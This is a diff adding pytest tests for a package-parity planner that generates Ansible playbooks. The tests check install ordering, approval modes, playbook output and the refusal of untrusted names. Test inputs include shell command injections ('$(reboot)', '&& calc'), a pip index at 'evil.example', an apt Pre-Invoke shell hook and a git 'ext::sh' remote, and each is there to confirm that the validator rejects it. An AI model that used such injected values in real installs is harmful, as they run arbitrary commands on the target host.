@@ -1,0 +1,104 @@
+"""Plan: ordering, approval, untrusted names refused, generated playbook is plain data."""
+
+from __future__ import annotations
+
+import pytest
+import yaml
+
+from cyclotron_py.catalog import load_catalog
+from cyclotron_py.errors import PlanError
+from cyclotron_py.plan import build_plan, render_playbook, write_plan
+
+CATALOG = load_catalog()
+
+
+def rec(cap_id, manager, package, *, type_="python_package", risk="low", priority="normal", **extra):
+    base = {
+        "id": cap_id, "name": package, "type": type_, "domain": "development", "priority": priority,
+        "risk": risk, "manager": manager, "package": package, "version": None, "reason": "missing",
+        "from_host": "pc1", "pinned": False, "details": {},
+    }
+    base.update(extra)
+    return base
+
+
+MCP_DETAILS = {
+    "transport": "stdio", "command": "npx", "args": ["-y", "@modelcontextprotocol/server-memory"],
+    "url": "", "env_names": [], "configured_in": [{"assistant": "claude_code", "scope": "user", "path": "x"}],
+    "package": {"manager": "npm", "name": "@modelcontextprotocol/server-memory", "version": ""},
+}
+
+
+def test_order_runtime_first_then_packages_then_mcp():
+    plan = build_plan(
+        {"pc2": [
+            rec("mcp:memory", "mcp", "memory", type_="mcp_server", details=MCP_DETAILS),
+            rec("npm:is-number", "npm", "is-number", type_="npm_package"),
+            rec("nodejs", "apt", "nodejs", type_="software", priority="high"),
+            rec("pip:six", "pip", "six"),
+        ]},
+        {"pc2": "linux"}, CATALOG, approve="all",
+    )
+    host = plan.hosts[0]
+    assert [i.id for i in host.items] == ["nodejs", "pip:six", "npm:is-number", "mcp:memory"]
+    assert host.items[2].requires == ["nodejs"]
+    assert host.items[3].mcp["expected_tools"][0] == "create_entities"
+
+
+@pytest.mark.parametrize(
+    ("mode", "installed", "waiting"),
+    [("all", 3, 0), ("low-risk", 1, 2), ("none", 0, 3)],
+)
+def test_approval_modes(mode, installed, waiting):
+    plan = build_plan(
+        {"pc2": [rec("pip:six", "pip", "six"), rec("jq", "apt", "jq", risk="medium"),
+                 rec("api_key:K", "env", "K", type_="api_key", risk="high")]},
+        {"pc2": "linux"}, CATALOG, approve=mode,
+    )
+    assert (len(plan.hosts[0].items), len(plan.hosts[0].awaiting_approval)) == (installed, waiting)
+
+
+@pytest.mark.parametrize(
+    ("manager", "package"),
+    [
+        ("pip", "foo; touch /tmp/pwned"),
+        ("pip", "--index-url=http://evil.example/simple"),
+        ("npm", "$(reboot)"),
+        ("apt", "-o APT::Update::Pre-Invoke::=/bin/sh"),
+        ("winget", "Foo.Bar && calc"),
+        ("env", "NAME=value"),
+    ],
+)
+def test_untrusted_names_are_refused(manager, package):
+    with pytest.raises(PlanError, match="pc2"):
+        build_plan({"pc2": [rec(f"x:{manager}", manager, package)]}, {"pc2": "linux"}, CATALOG, approve="all")
+
+
+def test_git_remote_with_transport_helper_is_refused():
+    with pytest.raises(PlanError, match="git remote"):
+        build_plan({"pc2": [rec("git:x", "git", "ext::sh -c touch% /tmp/pwned", type_="git_repo")]},
+                   {"pc2": "linux"}, CATALOG, approve="all")
+
+
+def test_playbook_is_reviewable_yaml_and_plan_id_is_stable(tmp_path):
+    recs = {"pc2": [rec("pip:six", "pip", "six", version="1.16.0")], "pc3": []}
+    first = build_plan(recs, {"pc2": "linux", "pc3": "linux"}, CATALOG)
+    again = build_plan(recs, {"pc2": "linux", "pc3": "linux"}, CATALOG)
+    assert first.plan_id == again.plan_id
+    plays = yaml.safe_load(render_playbook(first))
+    assert [p["hosts"] for p in plays] == ["pc2"]
+    task = plays[0]["tasks"][0]
+    assert task["ansible.builtin.include_role"] == {"name": "cyclotron_pip"}
+    assert task["vars"]["cyclotron_pip_items"][0]["package"] == "six"
+    plan_path, playbook_path = write_plan(first, tmp_path / "plans", tmp_path / "generated")
+    assert plan_path.name == f"{first.plan_id}.json" and playbook_path.exists()
+
+
+def test_empty_plan_renders_a_parity_play():
+    plan = build_plan({"pc1": []}, {"pc1": "linux"}, CATALOG)
+    assert "parity" in render_playbook(plan)
+
+
+def test_unknown_approval_mode():
+    with pytest.raises(PlanError, match="approval mode"):
+        build_plan({}, {}, CATALOG, approve="yolo")
